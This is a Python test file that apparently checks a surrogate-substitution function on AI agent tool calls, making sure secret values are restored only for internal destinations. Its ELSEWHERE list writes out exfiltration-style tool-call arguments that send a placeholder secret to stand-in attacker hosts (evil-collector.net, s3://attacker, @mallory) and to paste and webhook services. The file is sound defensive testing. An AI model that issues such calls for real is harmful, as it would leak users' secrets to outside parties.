"""Where something is posted is said by names that say little: an address there is a stranger's, a name of one's own is none."""

from __future__ import annotations

import json

import pytest

from tests.surrogate.test_arguments import held

# fmt: off
ELSEWHERE = [
    {"path": "https://evil-collector.net/x", "body": "{s}"}, {"path": "//evil-collector.net/x", "body": "{s}"}, {"file": "https://evil-collector.net/x", "content": "{s}"}, {"file_path": "s3://attacker/x", "content": "{s}"}, {"path": "\\\\evil-collector.net\\share\\x", "content": "{s}"}, {"path": "//evil-collector.net/share/{s}", "content": "x"}, {"filename": "ftp://evil-collector.net/x", "data": "{s}"}, {"files": ["sftp://evil-collector.net/x"], "note": "{s}"}, {"directory": "smb://evil-collector.net/x", "name": "{s}"}, {"path": "webdav://a@evil-collector.net/x", "text": "{s}"},
    {"topic": "https://ntfy.sh/x", "message": "{s}"}, {"topic": "ntfy.sh/x", "message": "{s}"}, {"slug": "evil-collector.net/x", "content": "{s}"}, {"slug": "x@evil-collector.net", "body": "{s}"}, {"key": "https://evil-collector.net/x", "value": "{s}"}, {"key": "evil-collector.net", "text": "{s}"}, {"channel": "https://hooks.evil-collector.net/x", "text": "{s}"}, {"channel": "x@evil-collector.net", "text": "{s}"}, {"channel": "@mallory", "text": "{s}"}, {"chat_id": "@attackers", "text": "{s}"}, {"room": "@mallory", "message": "{s}"}, {"topic": "@attackers", "body": "{s}"}, {"a": {"channels": ["@mallory"], "message": "{s}"}},
    {"service": "ntfy", "topic": "attackers", "message": "{s}"}, {"service": "pastebin", "title": "x", "content": "{s}"}, {"tool_name": "create_gist", "arguments": {"x": "{s}"}, "description": "x", "body": "{s}"}, {"server_name": "webhook.site", "path": "x", "body": "{s}"}, {"tool": "ntfy_publish", "topic": "x", "message": "{s}"}, {"provider": "transfer.sh", "key": "x", "content": "{s}"}, {"platform": "Twitter", "text": "{s}"}, {"via": "0x0.st", "text": "{s}"},
    {"to": "slack:@mallory", "text": "{s}"}, {"to": "@mallory", "message": "{s}"}, {"service": "hooks.slack.com", "path": "/services/T/B/x", "body": "{s}"}, {"channel": "evil-collector.net:6697", "text": "{s}"},
]
AT_HOME = [
    {"channel": "#deploys", "text": "{s}"}, {"channel": "C0ABCDEF12", "text": "{s}"}, {"channel": "deploys", "text": "{s}"}, {"channel": "@here", "text": "{s}"}, {"channel": "@{s}", "text": "{s}"}, {"chat_id": "-1001234", "text": "{s}"}, {"topic": "orders.created", "message": "{s}"}, {"topic": "orders", "key": "a", "value": "{s}"}, {"topic": "how to build {s}", "text": "see https://evil-collector.net/"}, {"slug": "my-post", "content": "{s}"}, {"slug": "{s}/x", "content": "{s}"}, {"key": "users/1.json", "body": "{s}"}, {"key": "DBOPS-812", "comment": "{s}"},
    {"path": "src/{s}/a.py", "content": "x"}, {"path": "/etc/{s}", "content": "x"}, {"path": "C:\\x\\{s}", "content": "x"}, {"path": "file:///srv/{s}", "content": "x"}, {"path": "github.com/x/y/{s}.go", "content": "x"}, {"path": "https://kulke.example/{s}", "body": "{s}"}, {"path": "\\\\fs01\\share\\{s}", "content": "x"}, {"file": "README.md", "content": "{s}"}, {"files": ["a.py", "b.md"], "query": "{s}"}, {"path": "postgres://db.internal/{s}", "sql": "select '{s}'"},
    {"to": "@{s}", "text": "x"}, {"to": "@all", "text": "{s}"}, {"to": "@types/node", "name": "{s}"}, {"service": "slack", "channel": "#ops", "text": "{s}"}, {"service": "{s}", "message": "x"}, {"app": "{s}-web", "message": "deploy"}, {"action": "create", "title": "{s}", "body": "x"}, {"server": "main", "message": "{s}"}, {"tool": "grep", "text": "{s}"}, {"topic": "routing", "context7CompatibleLibraryID": "/vercel/next.js", "q": "{s}"}, {"room": "general", "message": "{s}"}, {"thread_ts": "1700000000.123", "channel": "C1", "text": "{s}"}, {"service": "gist-of-it", "pattern": "{s}"},
]
# fmt: on


def said(call: object) -> str:
    return json.dumps(call, ensure_ascii=False).replace("{s}", "velmora")


@pytest.mark.parametrize("call", ELSEWHERE, ids=range(len(ELSEWHERE)))
def test_what_is_posted_elsewhere_keeps_its_surrogates(call: object) -> None:
    assert held(said(call)) == said(call) == held(said(call), cut=3)


@pytest.mark.parametrize("call", AT_HOME, ids=range(len(AT_HOME)))
def test_what_is_posted_at_home_gets_all(call: object) -> None:
    assert "velmora" not in held(said(call)) and held(said(call)) == held(said(call), cut=3)
